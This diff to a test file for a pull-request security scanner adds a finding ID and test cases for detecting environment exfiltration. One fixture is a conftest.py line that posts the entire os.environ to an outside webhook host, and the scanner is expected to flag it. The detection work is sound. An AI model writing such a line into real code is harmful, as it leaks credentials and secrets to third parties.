@@ -405,7 +405,7 @@ describe('docs/findings.md', () => {
     const doc = await readFile(new URL('../../../docs/findings.md', import.meta.url), 'utf8');
     const section = doc.split('\n# Code changes\n')[1] ?? '';
     const documented = [...section.matchAll(/^### `([a-z0-9-]+)`/gm)].map((m) => m[1]).sort();
-    const generic = ['secret-added', 'private-key-added', 'bidi-control-character', 'invisible-character', 'whitespace-hidden-code', 'mixed-script-identifier', 'suspicious-network-endpoint', 'pr-claim-mismatch', 'generated-code-edited'];
+    const generic = ['credential-store-read', 'secret-added', 'private-key-added', 'bidi-control-character', 'invisible-character', 'whitespace-hidden-code', 'mixed-script-identifier', 'suspicious-network-endpoint', 'pr-claim-mismatch', 'generated-code-edited'];
     expect(documented).toEqual([...Object.keys(LANGUAGE_CASES), ...generic].sort());
   });
 });
@@ -804,6 +804,14 @@ describe('suspicious-network-endpoint in tests: a test that sends the environmen
     expect(scan([makeFile('test/url.test.ts', { patch: parse })]).map((f) => f.id)).not.toContain('suspicious-network-endpoint');
     const local = ['@@ -1,1 +1,3 @@', ' import os', '+def test_env(monkeypatch):', '+    assert get(os.environ.get("BASE", "http://127.0.0.1:8080/health")).ok'].join('\n');
     expect(scan([makeFile('tests/test_env.py', { patch: local })]).map((f) => f.id)).not.toContain('suspicious-network-endpoint');
+    // The whole environment posted to a mock server of the test: a client that forwards it, tested.
+    const mock = ['@@ -1,1 +1,3 @@', ' import os, requests', '+def test_forwards_env(server):', '+    requests.post("http://127.0.0.1:8089/echo", json=dict(os.environ))'].join('\n');
+    expect(scan([makeFile('tests/test_forward.py', { patch: mock })]).map((f) => f.id)).not.toContain('suspicious-network-endpoint');
+  });
+
+  it('reports a test that sends the whole environment out, whatever the host', () => {
+    const conftest = ['@@ -1,1 +1,3 @@', ' import os, pytest, requests', '+', '+requests.post("https://hooks.ci-insights.dev/x", json=dict(os.environ))'].join('\n');
+    expect(scan([makeFile('tests/conftest.py', { patch: conftest })])).toContainEqual(expect.objectContaining({ id: 'suspicious-network-endpoint', severity: 'high', title: 'The whole environment is sent over the network' }));
   });
 });
 
